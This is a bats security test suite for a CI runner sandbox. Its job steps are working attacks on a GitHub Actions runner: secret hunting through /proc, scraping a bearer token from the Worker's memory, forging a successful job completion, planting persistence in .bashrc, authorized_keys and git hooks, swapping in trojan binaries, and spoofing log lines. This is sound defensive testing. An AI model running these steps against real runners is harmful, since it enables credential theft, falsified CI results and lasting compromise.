#!/usr/bin/env bats
# Attacks by a job on its runner; the numbers are those of SECURITY.md. Each is made twice: in a job of `cofferdam-runner start`,
# where it must be refused, and in a job of the same distribution without any sandbox, where it must succeed. The functions
# before each test are the job's steps.

load job_attack_helpers

# --- 1, 2, 3, 15

# find_readable WHERE EXPRESSION…: everything but what every Debian has, and what the kernel makes up. Inside, WHERE is the root;
# without a sandbox, the test's directory, for there may be much in the host's root.
find_readable() {
	local where=$1
	shift
	find "$where" \( -path /proc -o -path /sys -o -path /usr \) -prune -o "$@" 2>/dev/null
}

# The secrets come backwards, or this very script would be the place where they are found.
holds() {
	local backwards=$1
	shift
	grep -qsaF -f <(rev <<<"$backwards") -- "$@"
}

# files_hold REVERSED WHERE SINCE
files_hold() {
	local files
	mapfile -d '' files < <(find_readable "$2" -type f -newerct "@$3" -readable -print0)
	holds "$1" "${files[@]}"
}

sweep_finds_listener() {
	perl -e 'open F, "/proc/sys/kernel/pid_max"; my ($max, $found) = (<F>, 0);
		for my $pid (1 .. $max) {
			my $pidfd = syscall 434, $pid, 0;
			next unless kill 0, $pid or $pidfd >= 0;
			$found = 1 unless open F, "/proc/$pid/comm" and <F> ne "Runner.Listener\n";
		}
		exit !$found'
}

# hunt WHERE ROOT STATE SINCE NAME REVERSED…
hunt() {
	local where=$1 root=$2 state=$3 since=$4 p
	shift 4
	try "a file named .credentials" grep -q . <(find_readable "$where" -name '.credentials*' -print)
	for p in .credentials .credentials_rsaparams; do
		try "$p" cat "$root/$p"
		try "$p by a root of proc" grep -q . /proc/[0-9]*/root"$root/$p"
		try "$p by a directory of proc" grep -q . /proc/[0-9]*/cwd/"$p" /proc/[0-9]*/cwd/../"$p"
	done
	while [ $# -gt 0 ]; do
		try "$1 in a file" files_hold "$2" "$where" "$since"
		[ "$1" = key ] || try "$1 with a process" holds "$2" /proc/[0-9]*/environ /proc/[0-9]*/cmdline
		shift 2
	done
	try "the Listener among the processes" grep -qsa Runner[.]Listener /proc/[0-9]*/cmdline
	try "the Listener by number" sweep_finds_listener
	try "a file or socket of the state directory" grep -q . <(find "$state" -name _work -prune -o ! -type d -print)
}

jit() {
	curl -sf "$URL/api/v3/repos/octo/$1/actions/runners/generate-jitconfig" -H "Authorization: Bearer $PAT" \
		-d "{\"name\":\"$2\",\"runner_group_id\":1,\"labels\":[\"self-hosted\"],\"work_folder\":\"_work\"}" |
		jq -r .encoded_jit_config
}

# hunt_step WHERE ROOT STATE JIT KEYFILE
hunt_step() {
	local pairs=(pat "$PAT" token "$TOKEN" jit "${4:1000:80}" key "$(jq -r .d "$5")") reversed=() text
	for text in "${pairs[@]}"; do
		case $text in
		pat | token | jit | key) reversed+=("$text") ;;
		*) reversed+=("$(rev <<<"$text")") ;;
		esac
	done
	[ "${#reversed[@]}" = 8 ]
	step find_readable holds files_hold sweep_finds_listener hunt -- "${@:1:3}" "$since" "${reversed[@]}"
}

@test "1, 2, 3, 15: keys, credentials, the Listener, the state directory, whatever the runner was given" {
	local since mine theirs how id
	since=$(date +%s)
	mkdir -m 700 "$W/secrets"
	mine=$(jit demo inside)
	theirs=$(jit plain plain)
	for how in "$PAT" "$TOKEN" "$mine" "$theirs"; do
		echo "$how" >"$W/secrets/${how:0:8}"
	done
	start_plain plain "ACTIONS_RUNNER_INPUT_JITCONFIG=$theirs"
	wait_runner idle plain
	id=$(job_in plain "$(hunt_step "$W" "$W/plain" "$W/plain" "$theirs" "$W/plain/.credentials_rsaparams")")
	done_in plain "$id"
	plain_end
	for how in "ACTIONS_RUNNER_INPUT_JITCONFIG=$mine" "TOKEN=$TOKEN" "ACCESS_TOKEN=$PAT"; do
		start_inside EPHEMERAL=true "$how"
		wait_runner idle inside
		id=$(job_in inside \
			"$(hunt_step / "$W/dist" "$STATE" "$mine" "$STATE/slots/1/root/.credentials_rsaparams")")
		done_in inside "$id"
		blocked
		ended 20
		[ "$status" = 0 ]
	done
	gone
}

# --- 15: the way from the listener sandbox to the supervisor

knock() {
	perl -MSocket -e 'chdir $ARGV[0] or die "$!\n"; socket my $s, PF_UNIX, SOCK_SEQPACKET, 0 or die "$!\n";
		connect $s, pack_sockaddr_un($ARGV[1]) or die "$!\n"' "$@"
}

knock_everywhere() {
	local socket found=
	# The socket has this name wherever it is.
	while read -r socket; do
		knock "${socket%/*}" "${socket##*/}" && found=$socket
	done < <(find_readable / -type s -name slot.sock -print)
	try "the supervisor's socket" test -n "$found"
}

@test "15: a job does not reach the socket over which the shim hands it over" {
	local id side
	# Without the protection: the mount table shows the slots' directory.
	jq --arg slots "$STATE/slots" '.rw = [$slots]' "$W/job.json" >"$W/weak.json"
	for side in inside plain; do
		start_inside ACCESS_TOKEN="$PAT" EPHEMERAL=true
		id=$(job_in inside "$(step find_readable knock knock_everywhere --)")
		done_in "$side" "$id"
		ended 20
		[ "$status" = 0 ]
		cp "$W/weak.json" "$W/job.json"
	done
	blocked
	gone
}

# --- 4

# The hub knows the conclusion before the launcher has written its report.
two_reports() {
	[ "$(find "$STATE/reports" -name '*.json' | wc -l)" = 2 ]
}

@test "4: kill -9 -1 ends the sandbox and nothing else, and the job is reported" {
	local id canary
	sleep 300 3>&- &
	canary=$!
	both_start
	id=$(job_in plain 'kill -9 -1')
	until_true 10 not_running "$PLAIN_PID"
	# Nobody is left who could report it.
	[ "$(job "$id" in_progress | jq -r .status)" = in_progress ]
	id=$(job_in inside 'kill -9 -1')
	[ "$(conclusion "$id")" = failure ]
	job "$id" | jq -e '[.annotations[] | tostring] | join(" ") | contains("Runner.Worker was killed by signal 9")'
	# The same runner takes the next.
	[ "$(conclusion "$(job_in inside 'true')")" = success ]
	[ "$(curl -sf "$URL/_hub/runners" | jq '[.runners[] | select(.name == "inside")] | length')" = 1 ]
	until_true 10 two_reports
	kill "$canary"
	leave
}

@test "4: a job that has stopped everything can be canceled, and the runner goes on" {
	local id
	echo STANDIN_KILL_FLOOR_SECONDS=1 >"$W/dist/.env"
	start_inside ACCESS_TOKEN="$PAT"
	id=$(job_in inside 'kill -STOP -1; kill -STOP $$')
	job "$id" in_progress >/dev/null
	until_true 20 worker_is_stopped
	curl -sf -X POST "$URL/_hub/jobs/$id/cancel"
	# The Listener says nothing of a job whose Worker it has killed: GitHub notices when the lock runs out.
	until_true 20 said "the Listener gave it up"
	curl -sf -X POST "$URL/_hub/jobs/$id/lose"
	[ "$(conclusion "$(job_in inside 'true')")" = success ]
	leave
}

worker_is_stopped() {
	local pid
	pid=$(ours | grep 'Runner.Worker spawnclient 3 4' | grep -v 'cofferdam run' | sed 's/ .*//')
	[ -n "$pid" ] && grep -q '^State:.T' "/proc/$pid/status"
}

# --- 5, 13

dump_worker() {
	local url=$1 way
	shift
	fetch "$url" dump
	for way; do
		try "the Worker's $way" "$RUNNER_TEMP/dump" of "$way" $PPID
	done
}

# What the Worker holds of the job message, by its memory, as was done to tj-actions.
steal_token() {
	perl -e 'open M, "/proc/$ARGV[0]/maps" or die "maps: $!\n"; open D, "/proc/$ARGV[0]/mem" or die "mem: $!\n";
		while (<M>) {
			next unless /^(\w+)-(\w+) rw/;
			my ($from, $len) = (hex $1, hex($2) - hex $1);
			sysseek D, $from, 0; sysread D, my $data, $len or next;
			if ($data =~ /Bearer (eyJ[\w-]+\.[\w-]+\.[\w-]+)/) { print $1; exit }
		}
		die "no token\n"' $PPID
}

# A failing job completes itself as a success, and takes away who would know better.
fake_success() {
	local url=$1 token scope
	token=$(steal_token) || true
	scope=$(cut -d. -f2 <<<"$token" | basenc --base64url -d -i 2>/dev/null | grep -o 'Actions.Results:[0-9a-f:-]*')
	curl -sf -X POST "$url/run/completejob" -H "Authorization: Bearer $token" -d "$(
		IFS=: read -r _ plan job <<<"$scope"
		printf '{"planId": "%s", "jobId": "%s", "conclusion": "succeeded", "outputs": {}, "stepResults": []}' "$plan" "$job"
	)"
	kill -KILL $PPID
	exit 100
}

@test "5, 13: the Worker's memory stays closed, and a job that kills it fails" {
	local ways=(maps auxv syscall exe root fd ns kcmp mem environ ptrace process_vm_readv pidfd_getfd)
	if [ "$(cat /proc/sys/kernel/yama/ptrace_scope 2>/dev/null || echo 0)" != 0 ]; then
		skip "kernel.yama.ptrace_scope protects the Worker without us too"
	fi
	publish dump
	both_start
	both fetch dump_worker -- "$URL" "${ways[@]}"
	blocked
	# By permission, not by chance.
	run -1 bash -c 'grep "^refused: the Worker.s" "$1" | grep -v -e EACCES -e EPERM' - "$W/inside.log"
	both steal_token fake_success -- "$URL"
	[ "$(conclusion "$plain")" = success ]
	[ "$(conclusion "$inside")" = failure ]
	[ "$(conclusion "$(job_in inside 'exit 100')")" = failure ]
	leave
}

# --- 6, 44

# What outlives a job that has ended: each process has MARK in its command line and heeds nothing. The last one holds the
# output of the step and prints what others might take for words of the runner.
outlive() {
	local mark=$1 name
	export RUNNER_TRACKING_ID=0
	trap '' HUP INT TERM PIPE
	setsid nohup bash -c 'exec -a "$0" sleep 120' "$mark-session" >/dev/null 2>&1 </dev/null &
	(setsid bash -c 'bash -c "exec -a \"\$0\" sleep 120" "$0" &' "$mark-double-fork" >/dev/null 2>&1 </dev/null &)
	perl -e '$SIG{$_} = "IGNORE" for qw(HUP INT TERM CHLD); $0 = shift; my $end = time + 120;
		while (time < $end) { setpgrp; exit if fork; select undef, undef, undef, 0.01 }' \
		"$mark-refork" >/dev/null 2>&1 </dev/null &
	setsid bash -c 'while :; do
			printf "%s\n" "[WORKER 1] ##[error]" "##[error]spoof" "Listening for Jobs" \
				"2026-01-01 00:00:00Z: Running job: spoof" || :
			read -rt 0.02 <> <(:) || :
		done 2>/dev/null' "$mark-flood" &
	for name in session double-fork refork flood; do
		until grep -qsaF -f <(echo "$mark-$name") /proc/[0-9]*/cmdline; do :; done
	done
}

# The same into the outputs of everybody else who can be found.
speak_as_listener() {
	local out found=
	for out in /proc/[0-9]*/fd/[12]; do
		[ "$(cat "${out%/fd/*}/comm" 2>/dev/null)" = Runner.Listener ] || continue
		echo "2026-01-01 00:00:00Z: Running job: spoof" 2>/dev/null >"$out" && found=1
	done
	try "the Listener's output" test -n "$found"
}

outlive_and_speak() {
	outlive "$1"
	speak_as_listener
}

# outlivers MARK: the names of those that live. The one that forks on may be between two numbers at a look.
outlivers() {
	local name i
	for name in session double-fork refork flood; do
		for i in 1 2 3 4 5; do
			[ "$(alive "$1-$name")" = 0 ] || { echo "$name"; break; }
		done
	done
}

@test "6, 44: what a job leaves running is dead when its runner is free again; what it prints fools nobody" {
	both_start
	inside=$(job_in inside "$(step outlive speak_as_listener outlive_and_speak -- "mark-$$-inside")")
	plain=$(job_in plain "$(step outlive speak_as_listener outlive_and_speak -- "mark-$$-plain")")
	done_in inside "$inside"
	wait_runner idle inside
	[ "$(outlivers "mark-$$-inside")" = "" ]
	done_in plain "$plain"
	wait_runner idle plain
	[ "$(outlivers "mark-$$-plain" | xargs)" = "session double-fork refork flood" ]
	blocked
	grep -q '^2026-01-01 00:00:00Z: Running job: spoof' "$W/plain.out"
	run ! grep -q spoof "$W/out" "$W/err"
	report | jq -e '.residue == [] and .teardown.processes_killed >= 4'
	[ "$(conclusion "$(job_in inside 'true')")" = success ]
	leave
}

# --- 9, 10, 11, 12

append() {
	echo "#evil" >>"$1"
}

# A program that runs cannot be written to, but another can take its name.
replace() {
	cp -- "$1" "$1.evil" && mv -f -- "$1.evil" "$1"
}

trojan() {
	printf '#!/bin/sh\necho "cofferdam-test: a trojan" >&2\nexit 1\n' >"$1.evil" && chmod 755 "$1.evil" && mv -f "$1.evil" "$1"
}

overwrite() {
	local root=$1 file
	for file in bin/Runner.Listener bin/Runner.Worker externals/node20/bin/node run.sh config.sh; do
		try "replace $file" replace "$root/$file"
	done
	for file in externals/node20/bin/node run.sh config.sh; do
		try "write $file" append "$root/$file"
	done
	try "a new file in bin" touch "$root/bin/Runner.Worker.deps.json"
	try "a trojan as bin/Runner.Worker" trojan "$root/bin/Runner.Worker"
}

# places ROOT MARK: where a file may wait for the next job.
places() {
	local work=${RUNNER_WORKSPACE%/*}
	printf '%s\n' "$1/.env" "$1/.path" "$1/.setup_info" "$1/_work/_update/bin/Runner.Listener" "$1/_work/_update.sh" \
		"$1/update.finished" "$1/_diag/$2" "$work/$2" "$RUNNER_TOOL_CACHE/$2/node" \
		"$GITHUB_WORKSPACE/.git/hooks/post-checkout" "$HOME/.bashrc" "$HOME/.gitconfig" "$HOME/.npmrc" \
		"$HOME/.docker/config.json" "$HOME/.ssh/authorized_keys" "/tmp/$2" "/var/tmp/$2" "/dev/shm/$2"
}

plant() {
	local root=$1 mark=$2 url=$3 victim=$4 file kind
	while read -r file; do
		mkdir -p "${file%/*}" && echo "EVIL=$mark" >"$file"
	done < <(places "$root" "$mark")
	fetch "$url" persist
	for kind in shm sem msg mq; do
		"$RUNNER_TEMP/persist" put $kind "$mark"
	done
	# For whoever cleans up: a way out, what cannot be entered, and a path longer than a path may be.
	ln -s "$victim" "$GITHUB_WORKSPACE/link"
	perl -e 'for (1 .. 600) { mkdir "d" x 100 or die; chdir "d" x 100 or die }'
	mkdir -p "$GITHUB_WORKSPACE/locked/in"
	mkfifo "$GITHUB_WORKSPACE/locked/fifo"
	chmod 000 "$GITHUB_WORKSPACE/locked"
}

look() {
	local root=$1 mark=$2 url=$3 file kind
	while read -r file; do
		try "planted ${file//*\/_work\//work/}" grep -q "$mark" "$file"
	done < <(places "$root" "$mark")
	fetch "$url" persist
	for kind in shm shm-table sem msg mq; do
		try "planted $kind" "$RUNNER_TEMP/persist" get $kind "$mark"
	done
	try "planted locked" chmod 700 "$GITHUB_WORKSPACE/locked"
	rm -f "/tmp/$mark" "/var/tmp/$mark" "/dev/shm/$mark"
}

# The same names on either side, wherever the sides have them.
same_names() {
	sed -i "s,$W/plain/,ROOT/,; s,$W/dist/,ROOT/,; s,/home/job,HOME,; s,$W/home,HOME,
		s,work/demo/demo/,WORKSPACE/,; s,work/plain/plain/,WORKSPACE/," "$W/inside.log" "$W/plain.log"
}

listing() {
	find "$W/dist" -printf '%P %m %T@\n' | sort
	find "$W/dist" -type f -print0 | sort -z | xargs -0 sha256sum
}

@test "9, 10, 11, 12: nothing that a job overwrites or plants is there for the runner or for the next job" {
	local mark=mark-$$-$RANDOM before text
	publish persist
	mkdir "$W/victim"
	touch "$W/victim/file"
	both_start
	before=$(listing)
	inside=$(job_in inside "$(step fetch places plant -- "$W/dist" "$mark" "$URL" "$W/victim")")
	plain=$(job_in plain "$(step fetch places plant -- "$W/plain" "$mark" "$URL" "$W/victim")")
	done_in inside "$inside"
	done_in plain "$plain"
	grep -qx end "$W/inside.log"

	text=(append replace trojan overwrite fetch places look overwrite_and_look --)
	inside=$(job_in inside "$(step "${text[@]}" "$W/dist" "$mark" "$URL")")
	plain=$(job_in plain "$(step "${text[@]}" "$W/plain" "$mark" "$URL")")
	done_in inside "$inside"
	done_in plain "$plain"
	same_names
	blocked
	grep -q '^refused: write run.sh: .*Read-only file system$' "$W/inside.log"

	[ "$(listing)" = "$before" ]
	[ "$(grep -rlsF "$mark" "$STATE" "$W/dist")" = "" ]
	[ "$(find "$STATE" -name '_update*' -o -name update.finished)" = "" ]
	grep -qx "EVIL=$mark" "$W/plain/.env"
	[ -e "$W/victim/file" ]

	# The next job meets the Worker that is there now.
	plain=$(job_in plain true)
	[ "$(conclusion "$(job_in inside true)")" = success ]
	job "$plain" | jq -e '[.annotations[] | tostring] | join(" ") | contains("a trojan")'
	leave
}

overwrite_and_look() {
	look "$@"
	overwrite "$1"
}

# --- 14

own_process() {
	CANARY=$1-environ bash -c 'exec -a "$0" sleep 120' "$1-process" >/dev/null 2>&1 &
}

# neighbour WHERE MARK OTHER URL: the other's mark comes backwards, as above.
neighbour() {
	local where=$1 mark=$2 backwards=$3 url=$4 other kind place
	other=$(rev <<<"$backwards")
	fetch "$url" persist
	for place in /tmp /dev/shm "$HOME" "$GITHUB_WORKSPACE" "$RUNNER_TOOL_CACHE"; do
		echo "$mark" >"$place/$mark"
	done
	for kind in shm sem msg mq; do
		"$RUNNER_TEMP/persist" put $kind "$mark"
	done
	own_process "$mark"
	until grep -qsaF -f <(echo "$mark-process") /proc/[0-9]*/cmdline; do :; done
	meet "$url" "ready-$mark" "ready-$other"
	for place in /tmp /dev/shm "$HOME"; do
		try "file in $place" test -e "$place/$other"
	done
	try "file in a workspace" grep -q . <(find_readable "$where" -path "*/_work/*/$other" -print)
	for kind in shm shm-table sem msg mq; do
		try "$kind" "$RUNNER_TEMP/persist" get $kind "$other"
	done
	try "process" grep -qsaF -f <(echo "$other-process") /proc/[0-9]*/cmdline
	try "environment" grep -qsaF -f <(echo "$other-environ") /proc/[0-9]*/environ
	try "directory of a process" grep -q "$other" <(ls /proc/[0-9]*/cwd/ 2>/dev/null)
	meet "$url" "done-$mark" "done-$other"
	rm -f "/tmp/$mark" "/dev/shm/$mark"
}

# meet URL MINE OTHER: tells the hub, and waits until the other has.
meet() {
	echo here | curl -sf -o /dev/null -T - "$1/_hub/files/$2"
	until curl -sf -o /dev/null "$1/files/$3"; do read -rt 0.05 <> <(:) || :; done
}

# two SIDE WHERE: two jobs at once; the logs as those of SIDE, one after the other.
two() {
	local side=$1 where=$2 a=mark-$$-$1-a b=mark-$$-$1-b first second
	local functions=(find_readable fetch own_process meet neighbour)
	first=$(job_in "$side" "$(step "${functions[@]}" -- "$where" "$a" "$(rev <<<"$b")" "$URL")")
	second=$(job_in "$side" "$(step "${functions[@]}" -- "$where" "$b" "$(rev <<<"$a")" "$URL")")
	done_in "$side" "$second"
	mv "$W/$side.log" "$W/second"
	done_in "$side" "$first"
	cat "$W/second" >>"$W/$side.log"
}

@test "14: two jobs at once find nothing of each other" {
	publish persist
	start_plain plain plain2
	start_inside ACCESS_TOKEN="$PAT" COFFERDAM_SLOTS=2
	two plain "$W"
	two inside /
	same_names
	blocked
	[ "$(refused inside | uniq -c | sed 's/^ *\([0-9]*\).*/\1/' | sort -u)" = 2 ]
	leave
}

@test "1, 15: a state directory below what the profile shows stays closed all the same" {
	STATE=$W/shown/state
	mkdir "$W/shown"
	echo "$PAT" >"$W/shown/pat"
	jq --arg shown "$W/shown" '.ro = [$shown]'"${FIX:-}" "$W/job.json" >"$W/weak.json" && mv "$W/weak.json" "$W/job.json"
	id=$(script "find $W/shown/state \( -name _work -prune -o ! -type d -print \) | sed s/^/seen:/; sed s/^/seen:/ $W/shown/pat; echo looked")
	start ACCESS_TOKEN_FILE="$W/shown/pat" EPHEMERAL=true
	[ "$(conclusion "$id")" = success ]
	ended 20
	log_has "$id" looked
	job_log "$id" | grep '^seen:' && return 1
	nothing_left
}

